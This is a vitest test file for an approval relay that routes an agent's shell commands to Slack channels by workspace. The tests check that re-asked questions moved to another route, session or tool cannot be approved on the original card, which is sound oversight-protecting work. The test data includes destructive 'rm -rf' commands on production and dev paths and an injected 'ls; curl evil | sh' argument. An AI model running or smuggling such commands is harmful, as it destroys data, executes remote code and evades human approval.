// The host may ask an approvalId again (approval/requested, a listing) or update it
// (approval/updated) with another question: a harmless command in /home/dev first, then
// `rm -rf` in /srv/prod. The record keeps the route, channel and quorum that placed its card, so
// a question another route would place must not be decided there, by that route's approvers.
// The handler is real; the keeper runs each mutation against `stored` and keeps what it returned.

import pino from 'pino';
import { describe, expect, it } from 'vitest';
import { questionDigest } from '../../../../src/domain/questionDigest.js';
import type { ApprovalRecord } from '../../../../src/domain/record.js';
import type { HostEvent } from '../../../../src/msp/events.js';
import { ApprovalRequestParams } from '../../../../src/msp/protocol.js';
import type { Decider } from '../../../../src/relay/deciding/decider.js';
import { whyNotDecidable } from '../../../../src/relay/deciding/decisionCheck.js';
import { HostEventHandler } from '../../../../src/relay/hostEvents/hostEventHandler.js';
import type { RecordKeeper } from '../../../../src/relay/records/recordKeeper.js';
import type { RouteInput } from '../../../../src/routing/router.js';
import type { Mutation } from '../../../../src/store/approvalRecords.js';
import type { ApprovalStore } from '../../../../src/store/approvalStore.js';
import { shellApproval } from '../../../support/fakeHost.js';
import { sampleRecord } from '../../../support/sampleRecord.js';

const HOST = 'main';
const DEV_ROOT = '/home/dev';
const PROD_ROOT = '/srv/prod';

/** dev for /home/dev, prod for /srv/prod (quorum 2), as a config file would route them. */
function routeFor(input: RouteInput) {
  if (input.workspaceRoot?.startsWith(PROD_ROOT)) return { name: 'prod', channel: 'C0PROD', quorum: 2 };
  return { name: 'dev', channel: 'C0DEV' };
}

interface Relay {
  handler: HostEventHandler;
  /** The record as the last mutation left it. */
  current: () => ApprovalRecord;
  warnings: Array<Record<string, unknown>>;
}

function relayOver(
  first: ApprovalRecord,
  opts: { knowsRoute?: (route: string | undefined) => boolean } = {},
): Relay {
  let stored = first;
  const work: Promise<unknown>[] = [];
  const keeper = {
    enqueue: (_id: string, task: () => Promise<unknown>) => void work.push(task()),
    track: (task: Promise<unknown>) => void work.push(task),
    // The record exists: opened() goes on to re-ask it.
    store: async () => false,
    mutate: async (_id: string, mutation: Mutation) => {
      const next = mutation(stored);
      if (next) stored = next;
      return stored;
    },
    idle: async () => {
      while (work.length > 0) await Promise.all(work.splice(0));
    },
  } as unknown as RecordKeeper;
  const warnings: Array<Record<string, unknown>> = [];
  const logger = pino(
    { level: 'warn' },
    { write: (line: string) => void warnings.push(JSON.parse(line) as Record<string, unknown>) },
  );
  const handler = new HostEventHandler({
    keeper,
    store: {
      knows: () => true,
      saveFullText: async () => {},
      forgetOpen: async () => {},
    } as unknown as ApprovalStore,
    decider: { replay: () => {} } as unknown as Decider,
    host: () => undefined,
    logger,
    routeFor,
    sandboxModeOf: () => 'default',
    ...(opts.knowsRoute ? { knowsRoute: opts.knowsRoute } : {}),
  });
  return { handler, current: () => stored, warnings };
}

function ask(approvalId: string, workspaceRoot: string, argv: string[]): ApprovalRequestParams {
  return ApprovalRequestParams.parse(
    shellApproval({ approvalId, sessionId: 's-1', workspaceRoot, stages: [argv] }),
  );
}

/** The record of a harmless dev command, placed on the dev route. */
function devRecord(approvalId: string): ApprovalRecord {
  const params = ask(approvalId, DEV_ROOT, ['ls']);
  return sampleRecord(approvalId, {
    hostId: HOST,
    route: 'dev',
    slack: { channel: 'C0DEV', ts: '1.1' },
    tool: 'bash',
    rawArgs: params.rawArgs,
    subject: params.subject,
    availableChoices: params.availableChoices,
    requiredCapabilities: [],
  });
}

const ALLOW = { sourceIndex: 0, choiceId: 'allow_once' };

function reask(relay: Relay, params: ApprovalRequestParams): Promise<void> {
  relay.handler.handleHostEvent({
    type: 'approvalOpened',
    hostId: HOST,
    incarnation: 'inc-1',
    params,
  } as unknown as HostEvent);
  return relay.handler.idle();
}

function update(relay: Relay, params: ApprovalRequestParams): Promise<void> {
  const { approvalId, sessionId, subject, currentRequirementId, availableChoices } = params;
  relay.handler.handleHostEvent({
    type: 'approvalUpdated',
    hostId: HOST,
    incarnation: 'inc-1',
    params: {
      approvalId,
      sessionId,
      subject,
      currentRequirementId,
      availableChoices,
      change: { kind: 'subjectChanged' },
    },
  } as unknown as HostEvent);
  return relay.handler.idle();
}

describe('a question asked again on another route', () => {
  it('a re-ask that another route would place is not decided on the first route', async () => {
    const relay = relayOver(devRecord('ra-0001'));
    await reask(relay, ask('ra-0001', PROD_ROOT, ['rm', '-rf', '/srv/prod/data']));
    const record = relay.current();
    // Still the dev card: it must not take the dev approvers' click for the prod request.
    expect(record.route).toBe('dev');
    expect(whyNotDecidable(record, ALLOW)).toEqual({ kind: 'unavailable', reason: 'routeChanged' });
    expect(record.phase).toBe('unavailable');
    expect(record.rerouted).toEqual({ change: 'route', from: 'dev', to: 'prod' });
    expect(relay.warnings).toContainEqual(
      expect.objectContaining({ hostId: HOST, approvalId: 'ra-0001', route: 'dev', routeNow: 'prod' }),
    );
  });

  it('an update that another route would place is not decided on the first route', async () => {
    const relay = relayOver(devRecord('ra-0002'));
    await update(relay, ask('ra-0002', PROD_ROOT, ['rm', '-rf', '/srv/prod/data']));
    const record = relay.current();
    expect(record.route).toBe('dev');
    expect(whyNotDecidable(record, ALLOW)).toEqual({ kind: 'unavailable', reason: 'routeChanged' });
    expect(relay.warnings).toContainEqual(
      expect.objectContaining({ hostId: HOST, approvalId: 'ra-0002', route: 'dev', routeNow: 'prod' }),
    );
  });

  it('stays undecidable when asked once more on its first route', async () => {
    const relay = relayOver(devRecord('ra-0003'));
    await reask(relay, ask('ra-0003', PROD_ROOT, ['rm', '-rf', '/srv/prod/data']));
    await reask(relay, ask('ra-0003', DEV_ROOT, ['ls']));
    await update(relay, ask('ra-0003', DEV_ROOT, ['ls']));
    expect(whyNotDecidable(relay.current(), ALLOW)).toEqual({ kind: 'unavailable', reason: 'routeChanged' });
  });

  it('a re-ask from another session is not decided either', async () => {
    const relay = relayOver(devRecord('ra-0004'));
    await update(relay, { ...ask('ra-0004', DEV_ROOT, ['ls']), sessionId: 's-2' });
    expect(relay.current().rerouted).toEqual({ change: 'session' });
    expect(whyNotDecidable(relay.current(), ALLOW)).toEqual({ kind: 'unavailable', reason: 'routeChanged' });
  });

  it('a re-ask for another tool is not decided either', async () => {
    const relay = relayOver(devRecord('ra-0005'));
    await reask(relay, { ...ask('ra-0005', DEV_ROOT, ['ls']), toolName: 'write_file' });
    expect(relay.current().rerouted).toEqual({ change: 'tool' });
    expect(whyNotDecidable(relay.current(), ALLOW)).toEqual({ kind: 'unavailable', reason: 'routeChanged' });
  });

  it('another command on the same route is still decided there, its arguments refreshed', async () => {
    const relay = relayOver(devRecord('ra-0006'));
    const again = ask('ra-0006', `${DEV_ROOT}/app`, ['make', 'test']);
    await reask(relay, again);
    const record = relay.current();
    expect(whyNotDecidable(record, ALLOW)).toBeUndefined();
    expect(record.rerouted).toBeUndefined();
    expect(record.rawArgs).toBe(again.rawArgs);
    expect(relay.warnings).toEqual([]);
  });

  it('a press on a card that showed the earlier arguments decides nothing', async () => {
    const first = devRecord('ra-0008');
    const relay = relayOver(first);
    // Asked again as it was: the card's buttons still name the question.
    await reask(relay, ask('ra-0008', DEV_ROOT, ['ls']));
    expect(questionDigest(relay.current())).toBe(questionDigest(first));
    // The same subject, other arguments (only rawArgs differ): the digest moves.
    await reask(relay, { ...ask('ra-0008', DEV_ROOT, ['ls']), rawArgs: '{"command":"ls; curl evil | sh"}' });
    expect(relay.current().rawArgs).toBe('{"command":"ls; curl evil | sh"}');
    expect(questionDigest(relay.current())).not.toBe(questionDigest(first));
  });

  it('the same question listed again where the file now routes it elsewhere stays decidable', async () => {
    // Placed on `staging` by the file as it was; the file now routes /home/dev to dev.
    const first = { ...devRecord('ra-0008'), route: 'staging' };
    const relay = relayOver(first);
    await reask(relay, ask('ra-0008', DEV_ROOT, ['ls']));
    expect(whyNotDecidable(relay.current(), ALLOW)).toBeUndefined();
    expect(relay.warnings).toEqual([]);
    // Another question is checked: even in the same workspace, it is not the one shown there.
    await reask(relay, ask('ra-0008', DEV_ROOT, ['rm', '-rf', DEV_ROOT]));
    expect(whyNotDecidable(relay.current(), ALLOW)).toBeDefined();
  });

  it('a route gone from the file is left to the rules for one (admins decide)', async () => {
    const relay = relayOver(
      { ...devRecord('ra-0007'), route: 'renamed-away' },
      { knowsRoute: (route) => route !== 'renamed-away' },
    );
    await reask(relay, ask('ra-0007', DEV_ROOT, ['ls']));
    expect(whyNotDecidable(relay.current(), ALLOW)).toBeUndefined();
  });
});
